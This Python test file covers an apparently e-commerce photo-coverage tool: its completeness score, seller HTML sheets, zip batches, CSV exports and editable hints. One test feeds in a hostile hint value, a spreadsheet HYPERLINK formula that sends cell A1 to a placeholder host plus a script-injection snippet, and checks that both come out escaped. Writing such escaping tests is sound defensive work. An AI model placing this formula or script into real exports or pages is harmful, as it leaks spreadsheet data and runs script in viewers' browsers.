"""Outputs for reviewers, sellers and stakeholders: the completeness score (hand-built cases for
its weighting and monotonicity, then the demo), the seller sheet (rendered in Chromium, its
embedded images decoded), the batch zip, CSV escaping of everything exported, and the hints an
analyst edits (store table with history, used by suggestions, kept across a retrain, CLI)."""
from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from pathlib import Path

import numpy as np
import pytest
from conftest import ARTIFACTS, copy_data_dir

from unpose_core.coverage import completeness_score, rank_weight, usable_coverage
from unpose_core.exports import to_csv
from unpose_core.outputs import catalogue, explain, group_hints, render_sheet, sheets_zip, subject_ids
from unpose_core.outputs.hints import set_group_hint
from unpose_core.outputs.report import report
from unpose_core.records import Reference, Status
from unpose_core.store import Store
from unpose_core.suggestions import (
    ImageAssignment,
    MissingPose,
    Suggester,
    Suggestion,
)

CHROMIUM = "/usr/bin/chromium"
SHOTS = ARTIFACTS / "screenshots"


# -- the score on hand-built inputs ---------------------------------------------------------------
def test_rank_weights_fall_with_rank():
    w = [rank_weight(r) for r in range(1, 8)]
    assert w[0] == 1.0 and abs(w[1] - 1 / np.log2(3)) < 1e-12 and w[2] == 0.5
    assert all(a > b > 0 for a, b in zip(w, w[1:]))
    with pytest.raises(ValueError):
        rank_weight(0)


def test_completeness_weights_covered_poses_by_rank():
    expected = [10, 20, 30]                        # best first
    total = 1 + 1 / np.log2(3) + 0.5
    assert completeness_score(expected, []) == 0.0
    assert completeness_score(expected, [10, 20, 30]) == 100.0
    assert completeness_score(expected, [10]) == round(100 / total, 1) == 46.9
    assert completeness_score(expected, [30]) == round(50 / total, 1) == 23.5
    # the first pose counts more than the last; a group the cohort does not expect counts for nothing
    assert completeness_score(expected, [10]) > completeness_score(expected, [20]) > completeness_score(expected, [30])
    assert completeness_score(expected, [30, 99, 7]) == completeness_score(expected, [30])
    assert completeness_score([], [1, 2]) is None          # nothing expected: no score, not 100
    assert completeness_score([4, 4, 5], [4]) == completeness_score([4, 5], [4])   # repeats count once


def test_completeness_is_monotone():
    """Random cohorts and listings: covering one more group never lowers the score; covering a
    missing expected group raises it, the more the better its rank."""
    rng = np.random.default_rng(0)
    for _ in range(500):
        expected = list(rng.permutation(12)[: rng.integers(1, 9)])
        covered = set(rng.choice(15, size=rng.integers(0, 8), replace=False).tolist())
        before = completeness_score(expected, covered)
        for g in range(15):
            after = completeness_score(expected, covered | {g})
            assert after >= before
            if g in expected and g not in covered:
                assert after > before
        missing = [g for g in expected if g not in covered]
        gains = [completeness_score(expected, covered | {g}) - before for g in missing]
        assert gains == sorted(gains, reverse=True)   # the top missing pose adds most


def _img(name: str, covers: list[int], flags=(), duplicate_of=None) -> ImageAssignment:
    return ImageAssignment(name, Status.PERSON, covers[0] if covers else None, covers=list(covers), flags=list(flags),
                           duplicate_of=duplicate_of)


def test_a_copy_adds_nothing_a_flagged_photo_counts():
    """The score counts what the rule counts as covered: a copy covers nothing, a flagged photo
    (several people, low resolution, blurred) covers its pose as in the rule (its note asks the
    seller to replace it; asking for its pose again cost the demo evaluation precision)."""
    images = [_img("a.jpg", [1]), _img("b.jpg", [2], flags=["several_people"]), _img("c.jpg", [3], ["blurred"]),
              _img("d.jpg", [4], ["low_resolution"]), _img("e.jpg", [5], duplicate_of="a.jpg")]
    assert usable_coverage(images) == {1, 2, 3, 4}
    expected = [1, 2, 3, 4, 5]
    assert completeness_score(expected, usable_coverage(images)) == completeness_score(expected, [1, 2, 3, 4]) < 100
    # the same photos, none a copy, do count
    clean = [_img(a.image, a.covers) for a in images]
    assert completeness_score(expected, usable_coverage(clean)) == 100.0


def test_explain_a_hand_built_suggestion():
    ref = Reference("top-1", "Top", "top.jpg", "h1")
    missing = [MissingPose(7, 1, 0.9, 0.8, "Back, full length", "turn around", [ref], group=7, confidence=0.8),
               MissingPose(9, 2, 0.5, 0.6, "Size chart", "add a chart", [], group=9, confidence=0.4)]
    images = [_img("front.jpg", [3]), _img("blurry-back.jpg", [8], ["blurred"])]
    sug = Suggestion("run", "p1", "Shirt", "A|B", "subcategory", images, [3, 8], missing,
                     covered_groups=[3, 8], expected_groups=[3, 7, 8, 9],
                     completeness=completeness_score([3, 7, 8, 9], usable_coverage(images)))
    c = explain(sug)
    assert c.score == sug.completeness
    assert [(e.group, e.covered, e.requested) for e in c.expected] == [(3, True, False), (7, False, True),
                                                                          (8, True, False), (9, False, True)]
    assert abs(sum(e.weight for e in c.expected) - 1) < 1e-9
    assert c.n_usable == 1 and c.n_images == 2
    w = [rank_weight(r) for r in (1, 2, 3, 4)]
    assert c.score == round(100 * (w[0] + w[2]) / sum(w), 1)
    assert c.gain_next == pytest.approx(round(100 * (w[0] + w[1] + w[2]) / sum(w), 1) - c.score, abs=0.11)
    assert c.gain_requested == pytest.approx(100.0 - c.score, abs=0.11)


# -- the score on the demo -------------------------------------------------------------------------
def test_demo_suggestions_carry_their_score_and_adding_the_top_pose_raises_it(demo_store, demo_run):
    s = Suggester(demo_store, demo_run, n_references=3)
    try:
        ids = subject_ids(demo_store, demo_run)
        sugs = [s.for_product(p) for p in ids]
        for sug in sugs:
            assert sug.completeness == completeness_score(sug.expected_groups, usable_coverage(sug.images))
            assert sug.to_dict()["completeness"] == sug.completeness
        # a listing asked for its first pose gets one of that pose's example photos (a usable one)
        products = demo_store.products().set_index("product_id")
        checked = 0
        for sug in [x for x in sugs if x.missing and x.missing[0].references][:6]:
            prod = products.loc[sug.product_id]
            paths = [a.image for a in sug.images]
            cohort = (prod["category"], prod["subcategory"], prod["product_type"])
            same = s.for_images(paths, *cohort)
            assert same.completeness == sug.completeness
            for ref in sug.missing[0].references:
                more = s.for_images([*paths, ref.path], *cohort)
                assert more.completeness >= sug.completeness
                added = more.images[-1]
                if added.flags or added.duplicate_of is not None:
                    continue          # a flagged example adds nothing: covered by the hand-built cases
                assert sug.missing[0].group in added.covers
                assert more.completeness > sug.completeness
                assert sug.missing[0].group not in [m.group for m in more.missing]
                checked += 1
                break
    finally:
        s.close()
    assert checked >= 3


def test_report_and_catalogue_columns(demo_store, demo_run):
    df = report(demo_store, demo_run)
    assert {"completeness", "n_expected", "missing_hints", "missing_examples"} <= set(df.columns)
    asked = df[df["n_missing"] > 0]
    assert len(asked) and (asked["missing_hints"].str.len() > 0).all()
    first_examples = asked["missing_examples"].str.split(" | ", regex=False).str[0].str.split()
    assert first_examples.map(len).between(1, 3).all()
    assert all(Path(p).is_file() for ps in first_examples for p in ps)
    assert df["completeness"].dropna().between(0, 100).all()

    cat = catalogue(demo_store, demo_run)
    assert sorted(cat.products["product_id"]) == sorted(df["product_id"])
    merged = cat.products.set_index("product_id")["completeness"].sort_index()
    assert merged.equals(df.set_index("product_id")["completeness"].astype(float).sort_index())
    worst = cat.worst_first()["completeness"].dropna().tolist()
    assert worst == sorted(worst)
    by = cat.by_cohort()
    assert by["n_products"].sum() == cat.products["completeness"].notna().sum()
    top = cat.most_missing()
    assert top["n_products"].tolist() == sorted(top["n_products"], reverse=True)
    assert top["n_products"].sum() == len(cat.missing)
    gains = cat.gains()
    assert (gains["gain_requested"] > 0).all() and gains["gain_requested"].is_monotonic_decreasing
    assert (gains["completeness"] + gains["gain_requested"] <= 100.05).all()
    one = cat.gains(top["pose"].iloc[0])
    assert set(one["product_id"]) <= set(cat.missing.loc[cat.missing["pose"] == top["pose"].iloc[0], "product_id"])


# -- hints an analyst edits --------------------------------------------------------------------------
def test_hint_store_normalises_keys_keeps_history_and_reaches_upgraded_stores(tmp_path):
    store = Store(tmp_path / "d")
    try:
        assert set_group_hint(store, "  Back,   FULL length ", "Turn around.", "test") == "back, full length"
        set_group_hint(store, "back, full length", "Turn around, arms relaxed.", "test")
        assert store.hints() == {"back, full length": "Turn around, arms relaxed."}
        v = store.hints_version()
        set_group_hint(store, "Back, full length", "", "test")      # clear: back to the generated hint
        assert store.hints() == {} and store.hints_version() > v
        set_group_hint(store, "Back, full length", "", "test")      # clearing nothing records nothing
        hist = store.hint_history()
        assert list(hist["action"]) == ["set", "set", "clear"]
        assert list(hist["hint"].fillna("")) == ["Turn around.", "Turn around, arms relaxed.", ""]
        with pytest.raises(ValueError):
            set_group_hint(store, "   ", "x")
        set_group_hint(store, "Size chart", "Add the size table.", "test")
    finally:
        store.close()
    # a v3 store without the tables gets them on opening (the v3 -> v4 step creates every table)
    conn = sqlite3.connect(tmp_path / "d" / "unposed.sqlite")
    conn.execute("DROP TABLE hints")
    conn.execute("DROP TABLE hint_history")
    conn.execute("UPDATE meta SET value='3' WHERE key='schema_version'")
    conn.commit()
    conn.close()
    store = Store(tmp_path / "d")
    try:
        assert store.opened_version == 3 and store.hints() == {} and store.hint_history().empty
        set_group_hint(store, "Size chart", "Add the size table.", "test")
        assert store.hints() == {"size chart": "Add the size table."}
    finally:
        store.close()


@pytest.fixture(scope="module")
def own_dir(demo_data_dir, tmp_path_factory) -> Path:
    """A writable copy of the demo data dir (hints, a retrained run)."""
    return copy_data_dir(demo_data_dir, tmp_path_factory.mktemp("outputs") / "data")


def test_edited_hint_reaches_suggestions_exports_and_sheets_and_follows_a_retrain(own_dir):
    from unpose_core.config import TrainConfig
    from unpose_core.runs import active_run
    from unpose_core.training import train

    store = Store(own_dir)
    try:
        run = active_run(store)
        s = Suggester(store, run, n_references=3)
        sug = next(x for x in (s.for_product(p) for p in subject_ids(store, run)) if len(x.missing) >= 2)
        top, other = sug.missing[0], sug.missing[1]
        evil = '=HYPERLINK("http://x/?"&A1,"click") <script>alert(1)</script> turn the model around'
        set_group_hint(store, top.description.upper(), evil, "test")
        again = s.for_product(sug.product_id)
        s.close()
        assert again.missing[0].hint == evil and again.missing[0].hint_edited
        assert again.missing[1].hint == other.hint and not again.missing[1].hint_edited
        assert next(h for h in group_hints(store, run) if h.label == top.description).edited == evil

        # every CSV cell that could run as a formula is escaped: the suggestion table, the report, the dashboard
        tables = (again.table(), report(store, run, [sug.product_id]), catalogue(store, run, [sug.product_id]).missing)
        for df in tables:
            rows = list(csv.reader(io.StringIO(to_csv(df))))
            cells = [c for r in rows[1:] for c in r]
            assert any(c.startswith("'=HYPERLINK") for c in cells), df.columns.tolist()
            assert not any(c[:1] in "=+-@" and c[:1] != "" for c in cells if not _number(c))
        # the sheet shows it as text, never as markup
        page = render_sheet(again)
        assert "&lt;script&gt;" in page and "<script>" not in page

        # a retrained run (another K, another seed): every group whose description an old group had keeps
        # that group's hint, in the groups list and in the suggestions; new descriptions get generated ones
        old = {h.label: f"Hint for {h.label}, written on {run.run_id}" for h in group_hints(store, run)}
        for label, hint in old.items():
            set_group_hint(store, label, hint, "test")
        train(store, TrainConfig(k=8, seed=1))
        new = active_run(store)
        assert new.run_id != run.run_id and new.k != run.k
        kept = {h.label: h for h in group_hints(store, new)}
        shared = set(kept) & set(old)
        assert len(shared) >= 3, (sorted(kept), sorted(old))
        assert all(kept[t].edited == old[t] for t in shared)
        assert all(h.edited is None and h.hint == h.generated for t, h in kept.items() if t not in old)
        s = Suggester(store, new, n_references=1)
        asked = [m for p in subject_ids(store, new) for m in s.for_product(p).missing]
        s.close()
        assert any(m.description in shared for m in asked)
        assert all(m.hint == old[m.description] and m.hint_edited for m in asked if m.description in shared)
    finally:
        store.close()


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_cli_sheet_hints_and_completeness(own_dir, tmp_path, capsys):
    from unpose_core.cli import main

    d = ["--data-dir", str(own_dir)]
    assert main(["hints", "set", "Front, full length", "Show the whole outfit from the front.", *d]) == 0
    assert main(["hints", "list", "--json", *d]) == 0
    out = json.loads(capsys.readouterr().out.split("\n", 1)[1])
    front = [g for g in out["groups"] if g["key"] == "front, full length"]
    assert all(g["hint"] == "Show the whole outfit from the front." for g in front)
    assert main(["hints", "history", *d]) == 0
    assert "Show the whole outfit" in capsys.readouterr().out
    assert main(["hints", "set", "Front, full length", *d]) == 2       # no hint, no --clear
    assert main(["hints", "set", "Front, full length", "--clear", *d]) == 0

    store = Store(own_dir)
    try:
        from unpose_core.runs import active_run
        pid = subject_ids(store, active_run(store))[0]
    finally:
        store.close()
    capsys.readouterr()
    assert main(["suggest", pid, *d]) == 0
    assert "completeness: " in capsys.readouterr().out
    assert main(["suggest", pid, "--json", *d]) == 0
    assert 0 <= json.loads(capsys.readouterr().out)["completeness"] <= 100
    assert main(["sheet", pid, "--out", str(tmp_path / "one.html"), *d]) == 0
    assert (tmp_path / "one.html").read_text().startswith("<!doctype html>")
    assert main(["sheet", "--all", "-q", "--out", str(tmp_path / "all.zip"), *d]) == 0
    assert "index.html" in zipfile.ZipFile(tmp_path / "all.zip").namelist()
    assert main(["sheet", "--cohort", "No such cohort", *d]) == 2
    assert main(["sheet", *d]) == 2


# -- seller sheets --------------------------------------------------------------------------------------
def test_sheets_zip_for_a_cohort(demo_store, demo_run):
    ids = subject_ids(demo_store, demo_run, "Clothing / T-shirts")
    assert ids and all(demo_store.products().set_index("product_id").loc[p, "subcategory"] == "T-shirts" for p in ids)
    batch = sheets_zip(demo_store, demo_run, ids)
    z = zipfile.ZipFile(io.BytesIO(batch.data))
    assert sorted(z.namelist()) == sorted(batch.files) and len(batch.files) == len(ids) + 1
    index = z.read("index.html").decode()
    assert all(f"href='{p}.html'" in index for p in ids)
    page = z.read(f"{ids[0]}.html").decode()
    assert page.count("data:image/jpeg;base64,") >= 1 and "http://" not in page and "https://" not in page


def test_seller_sheet_in_chromium_loads_every_image(demo_store, demo_run):
    if not Path(CHROMIUM).is_file():
        pytest.skip(f"{CHROMIUM} is missing")
    sync_playwright = pytest.importorskip("playwright.sync_api").sync_playwright
    s = Suggester(demo_store, demo_run, n_references=3)
    try:
        sug = next(x for x in (s.for_product(p) for p in subject_ids(demo_store, demo_run))
                   if len(x.missing) >= 2 and all(m.references for m in x.missing))
    finally:
        s.close()
    out = ARTIFACTS / "sheets" / f"{sug.product_id}.html"
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(render_sheet(sug), encoding="utf-8")
    n_images = len(sug.images) + sum(min(3, len(m.references)) for m in sug.missing)
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"], headless=True)
        try:
            page = browser.new_page(viewport={"width": 1000, "height": 1400})
            errors: list[str] = []
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.on("request", lambda r: not r.url.startswith(("file:", "data:")) and errors.append(r.url))
            page.goto(out.as_uri())
            page.wait_for_load_state("load")
            widths = page.evaluate("() => Array.from(document.images).map(i => i.complete ? i.naturalWidth : 0)")
            assert len(widths) == n_images and all(w > 0 for w in widths), widths
            asks = page.locator("section.ask")
            assert asks.count() == len(sug.missing)
            for i, m in enumerate(sug.missing):
                text = asks.nth(i).inner_text()
                assert m.description in text and m.hint in text and f"confidence {m.confidence:.2f}" in text
            score = page.locator(".score").get_attribute("data-score")
            assert float(score) == sug.completeness
            SHOTS.mkdir(parents=True, exist_ok=True)
            page.screenshot(path=str(SHOTS / "sheet.png"), full_page=True)
            page.emulate_media(media="print")     # printable: the requests stay whole on a page
            assert page.evaluate("() => getComputedStyle(document.querySelector('section.ask')).breakInside") \
                == "avoid"
            assert not errors, errors             # self-contained: nothing fetched from anywhere
        finally:
            browser.close()
